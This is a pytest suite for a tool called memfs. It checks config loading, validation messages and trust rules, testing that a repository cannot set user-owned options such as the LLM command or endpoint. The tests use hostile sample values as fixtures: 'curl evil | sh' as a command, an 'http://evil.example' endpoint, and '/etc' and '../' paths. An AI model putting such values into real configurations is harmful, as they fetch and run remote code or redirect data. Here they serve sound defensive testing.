from __future__ import annotations

from pathlib import Path

import pytest

from memfs.store import blocks, config, config_file
from memfs.store.blocks import Place


def write(place: Place, text: str) -> str:
    assert place.project
    path = Path(place.project.root, "config.yaml")
    path.write_text(text)
    return str(path)


def test_defaults_project_user_and_variables(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    assert config.load(place).get("hooks.recall") == "auto"
    assert place.user
    Path(place.user.root, "config.yaml").write_text("memfs: 1\nhooks:\n  recall: 2\n")
    assert config.load(place).get("hooks.recall") == 2
    write(place, "memfs: 1\nhooks:\n  recall: off\n")
    assert config.load(place).get("hooks.recall") == "off"
    monkeypatch.setenv("MEMFS_HOOKS_RECALL", "1")
    assert config.load(place).get("hooks.recall") == 1


def test_a_wrong_type_gives_the_default_and_is_named(place: Place) -> None:
    path = write(place, "memfs: 1\nmax_blocks: many\n")
    assert config.load(place).number("max_blocks") == 10
    assert place.project
    assert config_file.find_problems(place.project) == [
        f"{path}:2: max_blocks is 'many', expected a whole number"
    ]


def test_an_unknown_key_is_named_with_the_likely_one(place: Place) -> None:
    path = write(place, "memfs: 1\nhoks:\n  recall: off\n")
    assert place.project
    assert config_file.find_problems(place.project) == [
        f"{path}:2: unknown key 'hoks'; did you mean hooks?"
    ]


def test_broken_yaml_is_named_and_gives_defaults(place: Place) -> None:
    path = write(place, "memfs: 1\nhooks: [unclosed\n")
    assert config.load(place).get("hooks.recall") == "auto"
    assert place.project
    [problem] = config_file.find_problems(place.project)
    assert problem.startswith(f"{path}: ")


def test_a_repository_cannot_set_what_is_its_users(place: Place) -> None:
    path = write(place, "memfs: 1\nllm:\n  command: curl evil | sh\ntrust:\n  pulled: name\n")
    assert place.project
    assert place.user
    Path(place.user.root, "config.yaml").write_text("memfs: 1\ntrust:\n  pulled: hold\n")
    settings = config.load(place)
    assert settings.get("llm.command") == ""
    assert settings.get("trust.pulled") == "hold"
    found = config_file.find_problems(place.project)
    assert [problem.partition(": ")[0] for problem in found] == [f"{path}:2", f"{path}:4"]
    assert all("only your own configuration" in problem for problem in found)


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("review: {mode: background, min_messages: 9}", "review.mode: background"),
        ("review: {apply: true}", "review.apply: true"),
        ("hooks: {team: auto, recall: 3}", "hooks.team: auto"),
    ],
)
def test_a_key_that_is_its_users_is_named_alone(line: str, name: str, place: Place) -> None:
    path = write(place, f"memfs: 1\n{line}\n")
    assert place.project
    [problem] = config_file.find_problems(place.project)
    assert problem.startswith(f"{path}:2: {name} is not used: only your own configuration")


def test_no_variable_names_the_model_that_is_asked(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MEMFS_LLM_ENDPOINT", "http://evil.example/v1")
    assert config.load(place).get("llm.endpoint") == ""
    assert place.user
    path = Path(place.user.root, "config.yaml")
    path.write_text("memfs: 1\nllm:\n  endpoint: http://localhost/v1\n  timeout: long\n")
    assert config.load(place).get("llm.endpoint") == "http://localhost/v1"
    assert config.load(place).number("llm.timeout") == 120
    assert config_file.find_problems(place.user) == [
        f"{path}:4: llm.timeout is 'long', expected a whole number"
    ]


def test_a_repository_may_be_stricter_than_its_user(place: Place) -> None:
    write(place, "memfs: 1\ntrust:\n  pulled: hold\n")
    assert place.project
    assert config.load(place).get("trust.pulled") == "hold"
    assert config_file.find_problems(place.project) == []


@pytest.mark.parametrize(
    "text", ["memfs: 1\nhooks:\n  recall: always\n", "memfs: 1\ngit:\n  commit: often\n"]
)
def test_a_word_that_means_nothing_is_named(place: Place, text: str) -> None:
    write(place, text)
    assert place.project
    [problem] = config_file.find_problems(place.project)
    assert ", expected off, " in problem


def test_a_huge_configuration_is_not_used(place: Place) -> None:
    write(place, "memfs: 1\nmax_blocks: 3\n" + "# filler\n" * 10_000)
    assert place.project
    assert config.load(place).number("max_blocks") == 10
    [problem] = config_file.find_problems(place.project)
    assert "longer than 64 kB" in problem


def kinds(place: Place) -> tuple[str, str, str]:
    found = config.model(place)
    return found.kind, found.name, found.folder


def test_the_model_is_the_bundled_one(place: Place) -> None:
    assert kinds(place) == ("bundled", "bundled", "")
    assert config.model(place).said == ""


@pytest.mark.parametrize(
    ("text", "kind", "folder"),
    [
        ("bundled", "bundled", ""),
        ("none", "none", ""),
        ("false", "none", ""),
        ("~/m", "folder", "{home}/m"),
        ("/m/../x", "folder", "/x"),
        ("./m", "folder", "{user}/m"),
        ("../m", "folder", "{home}/m"),
        ("minishlab/potion-base-8M", "hub", ""),
    ],
)
def test_a_user_may_name_any_model(
    place: Place, home: Path, text: str, kind: str, folder: str
) -> None:
    assert place.user
    path = Path(place.user.root, "config.yaml")
    path.write_text(f"memfs: 1\nembedding: {text}\n")
    found = config.model(place)
    assert (found.kind, found.said) == (kind, str(path))
    assert found.folder == folder.format(home=home, user=place.user.root)
    assert config_file.find_problems(place.user) == []


@pytest.mark.parametrize(
    "text", ["5", "true", "[a]", "models", "a/b/c", "-a/b", "a/b--c", '"a/b c"', "http://x/y"]
)
def test_what_names_no_model_is_named_and_not_used(place: Place, text: str) -> None:
    assert place.user
    Path(place.user.root, "config.yaml").write_text(f"memfs: 1\nembedding: {text}\n")
    assert kinds(place) == ("bundled", "bundled", "")
    [problem] = config_file.find_problems(place.user)
    assert ":2: embedding is " in problem


@pytest.mark.parametrize(
    "text", ["/etc", "~/m", "minishlab/potion-base-8M", "../../m", "../models/mine", "./in", "C:/m"]
)
def test_a_repository_names_no_files_of_a_model(place: Place, text: str) -> None:
    write(place, "memfs: 1\nembedding: none\n")
    assert config.model(place).kind == "none"
    path = write(place, f"memfs: 1\nembedding: {text}\n")
    assert place.project
    assert kinds(place) == ("bundled", "bundled", "")
    said = "is not used: a repository may name bundled or none"
    assert config_file.find_problems(place.project) == [f"{path}:2: embedding: {text} {said}"]
    assert place.user
    Path(place.user.root, "config.yaml").write_text("memfs: 1\nembedding: none\n")
    assert config.model(place).kind == "none", "its user's setting counts then"


def test_a_variable_names_the_model_over_all(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    write(place, "memfs: 1\n")
    monkeypatch.setenv("MEMFS_EMBEDDING", "none")
    assert kinds(place) == ("none", "none", "")
    assert config.model(place).said == "MEMFS_EMBEDDING"
    for other in ("a/b", "./evil", "/evil", "~/evil", "what is this"):  # a project can set it
        monkeypatch.setenv("MEMFS_EMBEDDING", other)
        assert config.model(place).kind == "bundled"


def test_variables_make_nothing_looser(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    assert place.user
    Path(place.user.root, "config.yaml").write_text(
        "memfs: 1\ntrust:\n  pulled: hold\nservice:\n  mode: off\nllm:\n  command: mine\n"
    )
    for name, value in {
        "TRUST_PULLED": "name",
        "SERVICE_MODE": "auto",
        "LLM_COMMAND": "evil",
        "LLM_ENDPOINT": "evil",
        "REVIEW_MODE": "background",
        "REVIEW_APPLY": "true",
    }.items():
        monkeypatch.setenv(f"MEMFS_{name}", value)
    found = config.load(place)
    assert found.get("trust.pulled") == "hold"
    assert found.get("service.mode") in ("off", False)
    assert found.get("llm.command") == "mine"
    assert not found.get("llm.endpoint")
    assert found.get("review.mode") != "background"
    assert found.get("review.apply") is not True
    Path(place.user.root, "config.yaml").write_text("memfs: 1\n")
    monkeypatch.setenv("MEMFS_TRUST_PULLED", "hold")
    monkeypatch.setenv("MEMFS_SERVICE_MODE", "off")
    found = config.load(place)
    assert (found.get("trust.pulled"), found.get("service.mode")) == ("hold", "off")


def test_what_is_written_beside_a_store_is_decided_where_it_is_trusted(place: Place) -> None:
    assert place.project
    write(place, "memfs: 1\ngit: {commit: edit}\nsync: {on_edit: true}\nmax_blocks: 7\n")
    found = config.load(place)
    assert (found.get("git.commit"), found.get("sync.on_edit")) == ("edit", True)
    Path(place.project.local, "token").unlink()
    found = config.load(blocks.find_place(place.project.top))
    assert (found.get("git.commit"), found.get("sync.on_edit")) == ("off", False)
    assert found.number("max_blocks") == 7
